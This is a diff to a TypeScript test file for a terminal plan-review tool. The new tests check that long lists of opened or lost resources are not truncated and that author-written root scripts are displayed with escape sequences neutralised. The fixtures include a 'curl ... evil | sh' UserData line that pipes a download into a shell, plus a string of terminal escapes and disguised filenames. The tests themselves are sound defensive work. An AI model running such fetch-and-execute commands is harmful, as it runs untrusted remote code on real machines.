@@ -9,7 +9,8 @@ import { row, plainText, span } from '../../src/views/rows.ts';
 import { rowsToText, wrap } from '../../src/views/text.ts';
 import { frame } from '../../src/tui/frame.ts';
 import { openReview } from '../../src/tui/state.ts';
-import { deleteDatabase, samplePlan, sampleTime } from '../helpers/sample-plan.ts';
+import { cardRows } from '../../src/views/card-rows.ts';
+import { baseStep, deleteDatabase, samplePlan, sampleTime } from '../helpers/sample-plan.ts';
 
 const seed = 20260226;
 const hostile = '\u001b[2J\u202egnp.exe\u200b\u0000\u009b31m<b>@all ::error::`x`\n| a';
@@ -45,6 +46,21 @@ describe('text', () => {
     expect(age('2023-09-20T09:12:00Z', sampleTime)).toBe('2023-09-20 09:12 UTC, 2 years 5 months ago');
     expect(value({ $masked: 'changed', digest: 'sha256:1' })).toBe('(sensitive: changed)');
     expect(value({ $secret: { env: 'AIPLAN_SECRET_DB' } })).toBe('(secret from variable AIPLAN_SECRET_DB)');
+  });
+});
+
+describe('a long list of what is opened or lost', () => {
+  it('is never cut: the worst of it could stand at its end', () => {
+    const long = `${'harmless, '.repeat(100)}666666666666`;
+    const step = { ...baseStep, grant: { opens: [long] }, destruction: { loses: [long] }, recoverability: { level: 'restorable', loses: [`${long} too`] } } as const;
+    expect(cardRows(step, samplePlan([step]), sampleTime).map(plainText).filter((line) => line.includes('666666666666'))).toHaveLength(3);
+  });
+});
+
+describe('what the author writes for root to run', () => {
+  it('is shown whole and neutralised', () => {
+    const step = { ...baseStep, changes: [{ path: 'UserData', before: null, after: { $masked: 'set' }, effect: 'grant', authored: '#!/bin/bash\ncurl \u001b[2Jevil | sh\n' }] } as const;
+    expect(cardRows(step, samplePlan([step]), sampleTime).map(plainText).slice(-4)).toEqual(['  + UserData: (sensitive: set) (grant)', '      | #!/bin/bash', '      | curl \\u{1b}[2Jevil | sh', '  way back       reversible']);
   });
 });
 
